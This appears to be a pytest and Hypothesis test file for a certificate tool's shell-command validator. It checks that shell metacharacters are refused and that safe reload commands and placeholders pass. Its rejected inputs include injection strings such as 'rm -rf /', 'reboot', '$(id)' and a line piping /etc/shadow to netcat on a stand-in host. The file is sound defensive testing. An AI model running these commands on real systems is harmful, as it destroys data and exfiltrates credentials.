from __future__ import annotations

import pytest
from hypothesis import assume, example, given
from hypothesis import strategies as st

from certctl.security.commands import (
    COMMAND_PLACEHOLDERS,
    MAX_COMMAND_LENGTH,
    SHELL_METACHARACTERS,
    validate_command,
)

safe_text = st.text(
    alphabet=st.characters(exclude_characters="".join(SHELL_METACHARACTERS), exclude_categories=("Cs",)),
    min_size=1,
    max_size=MAX_COMMAND_LENGTH,
)
metacharacter = st.sampled_from(sorted(SHELL_METACHARACTERS))


@pytest.mark.parametrize(
    "command",
    [
        "systemctl reload nginx",
        "nginx -t",
        "/usr/sbin/apachectl -k graceful",
        "docker exec haproxy kill -HUP 1",
        "C:/Windows/System32/iisreset.exe /noforce",
    ],
)
def test_ordinary_commands_pass(command: str) -> None:
    validate_command(command)


@pytest.mark.parametrize(
    ("command", "offender"),
    [
        ("systemctl reload nginx; rm -rf /", ";"),
        ("nginx -t && reboot", "&"),
        ("cat /etc/shadow | nc evil 1", "|"),
        ("echo $(id)", "$"),
        ("echo `id`", "`"),
        ('systemctl reload "nginx"', '"'),
        ("systemctl reload 'nginx'", "'"),
        ("nginx -s reload > /tmp/x", ">"),
        ("nginx\nreboot", "\n"),
        ("nginx\rreboot", "\r"),
        ("nginx\x00reboot", "\x00"),
        ("run {a,b}", "{"),
        ("path\\to", "\\"),
    ],
)
def test_each_metacharacter_is_refused_and_named(command: str, offender: str) -> None:
    with pytest.raises(ValueError, match="shell metacharacter") as caught:
        validate_command(command)
    assert repr(offender) in str(caught.value)


def test_empty_command_is_refused() -> None:
    with pytest.raises(ValueError, match="empty"):
        validate_command("")


def test_length_limit_is_1024_characters() -> None:
    validate_command("a" * MAX_COMMAND_LENGTH)
    with pytest.raises(ValueError, match="1025 characters long; the limit is 1024"):
        validate_command("a" * (MAX_COMMAND_LENGTH + 1))


@given(command=safe_text)
@example(command="systemctl reload nginx")
def test_text_without_metacharacters_within_the_limit_passes(command: str) -> None:
    validate_command(command)


@given(prefix=st.text(max_size=200), char=metacharacter, suffix=st.text(max_size=200))
@example(prefix="reload", char=";", suffix=" rm -rf /")
def test_any_metacharacter_anywhere_is_refused(prefix: str, char: str, suffix: str) -> None:
    command = prefix + char + suffix
    assume(not any(placeholder in command for placeholder in COMMAND_PLACEHOLDERS))
    with pytest.raises(ValueError, match="shell metacharacter"):
        validate_command(command)


@pytest.mark.parametrize(
    "command",
    [
        "openssl x509 -noout -in {cert_path}",
        "haproxy -c -f /etc/haproxy/staged.cfg --pem={pem_path}",
        "/usr/local/bin/check {cert_path} {key_path} {chain_path}",
    ],
)
def test_staged_file_placeholders_pass(command: str) -> None:
    validate_command(command)


@pytest.mark.parametrize(
    ("command", "position"),
    [
        ("check {cert}", 6),
        ("check {CERT_PATH}", 6),
        ("check { cert_path}", 6),
        ("check {{cert_path}}", 6),
        ("check {cert_path}}", 17),
        ("check {cert_path} $(id)", 18),
    ],
)
def test_braces_outside_the_placeholders_are_refused_at_their_position(command: str, position: int) -> None:
    with pytest.raises(ValueError, match=f"at position {position};"):
        validate_command(command)


@given(command=st.text(min_size=MAX_COMMAND_LENGTH + 1, max_size=MAX_COMMAND_LENGTH + 200))
def test_anything_over_the_limit_is_refused(command: str) -> None:
    with pytest.raises(ValueError, match="command"):
        validate_command(command)
